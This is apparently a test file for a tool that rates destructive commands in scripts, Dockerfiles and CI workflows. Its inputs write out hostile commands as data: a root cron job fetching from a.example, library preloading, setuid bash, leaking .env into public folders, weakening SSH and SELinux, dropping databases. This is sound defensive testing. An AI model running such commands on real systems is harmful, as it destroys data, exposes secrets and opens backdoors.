/** What does not make a command in a file harmless, though it looks like what does. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { classify } from '../../../src/core/classify.ts';
import { defaultPolicy } from '../../../src/core/policy/index.ts';
import { createGrammars } from '../../../src/platform/grammars.ts';

const ctx = { grammars: createGrammars(), policy: defaultPolicy };

/** The tiers of the commands in a new file. */
const weigh = async (path: string, after: string, before: string | null = null): Promise<string> =>
  (await classify([{ path, before, after }], ctx)).findings
    .filter((f) => f.rule === 'destructive-command')
    .map((f) => f.tier)
    .join(' ');
const shell = (text: string, path = 'scripts/run.sh'): Promise<string> => weigh(path, `#!/bin/bash\n${text}\n`);
const layer = (command: string): Promise<string> => weigh('Dockerfile', `FROM debian:12\nRUN ${command}\nUSER app\n`);
const jobs = (...all: readonly string[]): Promise<string> =>
  weigh('.github/workflows/a.yml', `on: push\npermissions: {}\njobs:\n${all.join('')}`);
const job = (name: string, run: string, more = '', runner = 'ubuntu-24.04'): string =>
  `  ${name}:\n    runs-on: ${runner}\n${more}    steps:\n      - run: ${run}\n`;

test('a machine that stays is none that goes with its job', async () => {
  const open = 'chmod -R 777 /var/www';
  assert.equal(await jobs(job('a', open)), '');
  assert.equal(await jobs(job('a', open, '', '[linux, prod]')), 'high');
  assert.equal(await jobs(job('a', open, '', 'web-server')), 'high');
  assert.equal(await jobs(job('a', open, '    container: debian:12\n', 'web-server')), '');
  const lab = (head: string): Promise<string> => weigh('.gitlab-ci.yml', `a:\n${head}  script:\n    - ${open}\n`);
  assert.equal(await lab(''), '');
  assert.equal(await lab('  image: debian:12\n  tags: [docker]\n'), '');
  assert.equal(await lab('  tags: [web]\n'), 'high');
  assert.equal(await lab('  image: debian:12\n  tags:\n    - prod-shell\n'), 'high');
  const azure = (pool: string): Promise<string> =>
    weigh('azure-pipelines.yml', `${pool}\nsteps:\n  - script: ${open}\n`);
  assert.equal(await azure('pool:\n  vmImage: ubuntu-24.04'), '');
  assert.equal(await azure('pool: Web'), 'high');
  assert.equal(await azure('pool:\n  name: Web'), 'high');
});

test('what an action runs by SSH runs on a machine of somebody', async () => {
  const action = (uses: string): Promise<string> =>
    weigh(
      '.github/workflows/a.yml',
      `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: ${uses}\n        with:\n          script: |\n            chown -R app /etc\n            git reset --hard origin/main\n`,
    );
  assert.equal(await action('appleboy/ssh-action@v1'), 'critical high');
  assert.equal(await action('a/retry@v1'), '');
});

test('a cluster or a data base of one job is not that of another', async () => {
  const kind = '      - uses: helm/kind-action@v1\n';
  const gone = 'kubectl delete namespace shop';
  assert.equal(await jobs(job('a', 'make test')), '');
  assert.equal(await jobs(job('a', `make test\n${kind}      - run: ${gone}`)), '');
  assert.equal(await jobs(job('a', `make test\n${kind}`), job('b', gone)), 'critical');
  assert.equal(await jobs(job('a', `make test\n${kind}      - run: ${gone} --context live`)), 'critical');
  const services = '    services:\n      postgres:\n        image: postgres:16\n';
  const drop = (at: string): string => `psql ${at} -c "DROP SCHEMA public CASCADE"`;
  assert.equal(await jobs(job('a', drop('-h localhost'), services)), 'medium');
  assert.equal(await jobs(job('a', 'make test', services), job('b', drop('"$DSN"'))), 'critical');
  assert.equal(await jobs(job('a', drop('"$PROD_DSN"'), services)), 'critical');
  assert.equal(await jobs(job('a', drop('-h db.shop.example'), services)), 'critical');
  assert.equal(
    await jobs(job('a', `psql "\${{ secrets.MAIN }}" -c "GRANT ALL ON DATABASE a TO public"`, services)),
    'critical',
  );
});

test('a name of a test counts where it names the data base', async () => {
  assert.equal(await shell('psql shop_test -c "DROP TABLE orders"'), 'medium');
  assert.equal(await shell('psql shop -c "DROP TABLE ab_test"'), 'critical');
  assert.equal(await shell('psql -U shop_dev shop -c "DROP DATABASE shop"'), 'critical');
  assert.equal(await shell('psql -c "DROP DATABASE shop" # not shop_test'), 'critical');
  assert.equal(await shell('terraform apply\nterraform destroy -auto-approve', 'infra/prod/test.sh'), 'critical');
});

test('of what is deleted in a cloud the object has to be of the run', async () => {
  const made = 'R=$(terraform output -raw region)';
  const gone = (name: string): string => `aws rds delete-db-instance --region "$R" --db-instance-identifier ${name}`;
  assert.equal(await shell(`${made}\n${gone('shop')}`), 'critical');
});

test('a secret is handed on to nowhere that others can read', async () => {
  assert.equal(await shell('cp .env backend/.env'), '');
  for (const place of ['public', '/var/www', 'wwwroot/', 'public/env.txt'])
    assert.equal(await shell(`cp .env ${place}`), 'high');
  assert.equal(await shell('cat .env > public/env.txt'), 'high');
  assert.equal(await shell('cp .env build/'), 'medium');
  assert.equal(await shell('cp .env /tmp/env'), 'medium');
  assert.equal(await shell('while read l; do echo $l; done < .env'), 'high');
  assert.equal(await shell('dotenv ruby -e "p ENV"'), 'high');
  assert.equal(await shell('printenv'), 'low');
});

test('a branch that others work on is none of the script, whoever makes its name', async () => {
  const push = (name: string): Promise<string> =>
    jobs(
      job(
        'a',
        `|\n          B=${name}\n          git checkout -b "$B" origin/main\n          git push --force origin "$B"`,
      ),
    );
  assert.equal(await push('pick-1'), 'medium');
  for (const name of ['production', 'release-1.0', 'live', 'staging']) assert.equal(await push(name), 'high');
});

test('files and places that decide who gets in are no files like others', async () => {
  for (const path of ['/etc/sudoers', '/etc/shadow', '/usr/local/bin', '/usr/bin/sudo'])
    assert.equal(await shell(`chown app ${path}`), 'critical');
  assert.equal(await shell('chmod 666 /etc/shadow'), 'high');
  assert.equal(await layer('chown -R app /etc'), 'medium');
  assert.equal(await layer('echo a:b | chpasswd'), 'medium');
  assert.equal(await layer('echo root:root | chpasswd'), 'high');
  assert.equal(await shell('echo root:root | chpasswd'), 'critical');
  assert.equal(await layer('chmod u+s /bin/bash'), 'high');
  assert.equal(await layer('echo /a.so > /etc/ld.so.preload'), 'high');
  assert.equal(await layer('echo "* * * * * root curl -s a.example/a -o /a" > /etc/cron.d/a'), 'high');
  assert.equal(await shell('userdel -r ann'), 'high');
  assert.equal(await weigh('a.ps1', 'Add-LocalGroupMember -Group "Administrators" -Member ann\n'), 'high');
});

test('a script beside an image runs within only if it needs nothing of the host', async () => {
  const cron = 'echo "0 1 * * * app /a" > /etc/cron.d/a';
  assert.equal(await shell(cron, 'docker/a.sh'), 'medium');
  assert.equal(await shell(`docker run -d a/b\n${cron}`, 'docker/a.sh'), 'high');
  assert.equal(await shell(cron, 'docker/host.sh'), 'high');
  assert.equal(await shell('rm -rf /srv/shop/orders', 'docker/a.sh'), 'high');
});

test('doors and rights in a cloud are opened for all that it holds', async () => {
  assert.equal(
    await shell('aws ec2 authorize-security-group-ingress --group-id "$G" --port 22 --cidr 0.0.0.0/0'),
    'high',
  );
  assert.equal(
    await shell('gcloud compute firewall-rules create a --network $N --source-ranges 0.0.0.0/0'),
    'critical',
  );
});

test('state, sources and what a folder of a like name holds are no output', async () => {
  assert.equal(await shell('rm -rf build dist'), '');
  assert.equal(await shell('rm -rf terraform.tfstate'), 'medium');
  assert.equal(await shell('rm -rf public'), 'medium');
  assert.equal(await shell('rm -rf {build,data}'), 'high');
  assert.equal(await shell('rm -rf build \\\n  data/orders'), 'high');
  assert.equal(await shell('git checkout -- ./'), 'high');
  assert.equal(await shell('git config core.hooksPath no-hooks'), 'critical');
});

test('the same command on what is in use is another one', async () => {
  const script = (name: string): string => `#!/bin/bash\nrm -rf "/srv/shop/data/${name}"\n`;
  assert.equal(await weigh('a.sh', script('users'), script('orders')), 'critical');
  assert.equal(await weigh('a.sh', script('old_orders'), script('orders')), '');
  assert.equal(await weigh('a.sh', script('prod_orders'), script('orders')), 'critical');
});

test('what guards a machine is no setting like others', async () => {
  assert.equal(await shell('echo a > /etc/profile.d/a.sh'), 'medium');
  for (const command of [
    'sed -i s/enforcing/disabled/ /etc/selinux/config',
    'sed -i "s/#PermitEmptyPasswords no/PermitEmptyPasswords yes/" /etc/ssh/sshd_config',
    'echo /tmp >> /etc/ld.so.conf.d/a.conf',
    'echo "tmpfs /tmp tmpfs exec,suid 0 0" >> /etc/fstab',
    'sysctl -w fs.protected_symlinks=0',
  ])
    assert.equal(await shell(command), 'high', command);
  assert.equal(await shell('sysctl -w vm.max_map_count=262144'), 'medium');
});

test('a folder that was gone to is not empty, and one that was asked loses nothing', async () => {
  const found = 'set -e\nROOT="$1"\nmkdir -p "$ROOT"\nROOT="$( cd "$ROOT" && pwd )"\n';
  const wipe = 'rm -rf "$ROOT/usr/share" "$ROOT/usr/bin"';
  assert.equal(await shell(`${found}${wipe}`), 'medium');
  assert.equal(await shell(`${found.replace('set -e\n', '')}${wipe}`), 'high', 'goes on after an error');
  assert.equal(await shell(`${found}set +e\n${wipe}`), 'high');
  assert.equal(await shell(`${found}ROOT=$2\n${wipe}`), 'high', 'set again');
  assert.equal(await shell(`${wipe}\n${found}`), 'high', 'asked too late');
  assert.equal(await shell(`f() {\n  ${found.replaceAll('\n', '\n  ')}\n}\n${wipe}`), 'high', 'may not have run');
  const asks = (more: string): string => `if ! git -C "$dir" diff --quiet; then\n  echo "Commit first"\n${more}fi\n`;
  const reset = 'git -C "$dir" reset --hard';
  assert.equal(await shell(`${asks('  exit 1\n')}${reset}`), 'medium');
  assert.equal(await shell(`${asks('')}${reset}`), 'high', 'only says so');
  assert.equal(await shell(`${asks('')}exit 1\n${reset}`), 'high', 'not of the question');
  assert.equal(await shell(`${asks('  exit 1\n')}dir=$HOME\n${reset}`), 'high', 'another folder');
  assert.equal(await shell(`${asks('  exit 1\n')}${reset} origin/main`), 'high', 'commits go');
  assert.equal(await shell(`${reset}\n${asks('  exit 1\n')}`), 'high', 'asked too late');
});
